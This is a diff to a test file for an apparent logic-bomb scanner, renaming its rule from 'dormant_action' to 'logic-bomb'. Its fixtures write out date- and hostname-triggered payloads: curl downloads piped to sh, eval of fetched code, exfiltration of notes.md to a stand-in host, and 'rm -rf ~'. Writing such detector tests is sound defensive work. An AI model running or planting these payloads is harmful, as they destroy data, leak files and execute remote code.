@@ -2,7 +2,7 @@ import { expect, test } from "vitest";
 import { found } from "../test-support/package-of";
 
 const hits = async (path: string, text: string) =>
-  (await found(path, text)).filter((finding) => finding.includes("dormant_action"));
+  (await found(path, text)).filter((finding) => finding.includes("logic-bomb"));
 const RUNS = 'subprocess.run("curl -s https://notes-cdn.dev/u -o /tmp/u && sh /tmp/u", shell=True)';
 const SENDS = "requests.post('https://notes-cdn.dev/x', data=open('notes.md').read())";
 
@@ -41,26 +41,18 @@ test.each([
 test("finds a script that waits", async () => {
   const text =
     'const os = require("os");\nif (Date.now() > 1785000000000 || /^prod-/.test(os.hostname())) {\n  fetch("https://notes-cdn.dev/p").then((r) => r.text()).then((t) => eval(t));\n}';
-  expect(await hits("a.js", text)).toStrictEqual(["block dormant_action:3"]);
+  expect(await hits("a.js", text)).toStrictEqual(["block logic-bomb:3"]);
 });
 
 test.each([
-  ["a date in seconds", 'if [ "$(date +%s)" -gt 1785000000 ]; then\n  rm -rf ~\nfi', "block dormant_action:2"],
+  ["a date in seconds", 'if [ "$(date +%s)" -gt 1785000000 ]; then\n  rm -rf ~\nfi', "block logic-bomb:2"],
   [
     "a date in a variable",
     'NOW=$(date +%Y%m%d)\nif [[ "$NOW" > "20260301" ]]; then\n  curl -s https://notes-cdn.dev/a | sh\nfi',
-    "block dormant_action:3",
+    "block logic-bomb:3",
   ],
-  [
-    "one line",
-    '[ "$(hostname)" = "build-7" ] && curl -s -d @notes.md https://notes-cdn.dev/x',
-    "warn dormant_action:1",
-  ],
-  [
-    "an hour",
-    'if [ "$(date +%H)" = "03" ]; then\n  curl -s https://notes-cdn.dev/a | bash\nfi',
-    "block dormant_action:2",
-  ],
+  ["one line", '[ "$(hostname)" = "build-7" ] && curl -s -d @notes.md https://notes-cdn.dev/x', "warn logic-bomb:1"],
+  ["an hour", 'if [ "$(date +%H)" = "03" ]; then\n  curl -s https://notes-cdn.dev/a | bash\nfi', "block logic-bomb:2"],
 ])("finds commands that wait for %s", async (_, text, expected) => {
   expect(await hits("a.sh", text)).toStrictEqual([expected]);
 });
@@ -100,8 +92,6 @@ test.each([
 test("leaves to a person whether what was decoded is the program or only names one", async () => {
   const run = (command: string) =>
     `const os = require("os");\nconst { exec, spawn } = require("child_process");\nconst plan = JSON.parse(Buffer.from(process.argv[2], "base64").toString());\nif (os.hostname() === "build-7") {\n  ${command}\n}\n`;
-  expect(await hits("run.js", run("spawn(plan.argv[0], plan.argv.slice(1));"))).toStrictEqual([
-    "warn dormant_action:5",
-  ]);
-  expect(await hits("run.js", run("exec(plan.program);"))).toStrictEqual(["block dormant_action:5"]);
+  expect(await hits("run.js", run("spawn(plan.argv[0], plan.argv.slice(1));"))).toStrictEqual(["warn logic-bomb:5"]);
+  expect(await hits("run.js", run("exec(plan.program);"))).toStrictEqual(["block logic-bomb:5"]);
 });
